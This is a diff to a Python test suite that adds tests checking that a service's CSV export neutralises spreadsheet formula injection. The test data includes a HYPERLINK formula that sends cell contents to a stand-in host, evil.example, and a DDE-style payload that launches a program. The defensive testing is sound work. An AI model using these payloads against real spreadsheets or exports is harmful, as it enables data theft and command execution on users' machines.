@@ -9,7 +9,7 @@ import xml.etree.ElementTree as ET
 
 from service.items import vocabulary
 from service.system.models import Vocabulary
-from tests.support.seed import ITEM
+from tests.support.seed import ACTOR, ITEM, QUOTE, SOURCE
 
 ATOM = "{http://www.w3.org/2005/Atom}"
 
@@ -100,6 +100,41 @@ def test_csv_streams_every_matching_item(client) -> None:
     whole = client.get("/api/v1/items.csv").content.decode("utf-8")
     assert len(list(csv.DictReader(io.StringIO(whole.removeprefix("\ufeff"))))) == 35
     assert client.get("/api/v1/items.csv", params={"status": "nope"}).status_code == 422
+
+
+def test_csv_text_cells_never_start_a_formula(client, editor_headers) -> None:
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    created = client.post(
+        "/api/v1/items",
+        json={
+            "kind": "commitment",
+            "title": title,
+            "description": "+1+cmd|' /C calc'!A0",
+            "actor": ACTOR,
+            "source": SOURCE,
+            "quote": QUOTE,
+            "quantity": {"value": 3, "unit": "@SUM(1+1)"},
+        },
+        headers=editor_headers,
+    )
+    assert created.status_code == 201, created.text
+    text = client.get("/api/v1/items.csv").content.decode("utf-8").removeprefix("\ufeff")
+    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["slug"] == created.json()["slug"])
+    assert row["title"] == "'" + title
+    assert row["description"] == "'+1+cmd|' /C calc'!A0"
+    assert row["quantity_unit"] == "'@SUM(1+1)"
+    assert row["quantity_value"] == "3"
+    for cell in csv.reader(io.StringIO(text)):
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cell)
+
+
+def test_csv_neutralises_text_cells_only() -> None:
+    from service.items.csv_export import inert
+
+    cells = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "", -2.5, -3, 0, "a=b"]
+    assert inert(cells) == [
+        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "plain", "", -2.5, -3, 0, "a=b"
+    ]  # fmt: skip
 
 
 def test_csv_pages_through_more_than_one_batch(app_settings) -> None:
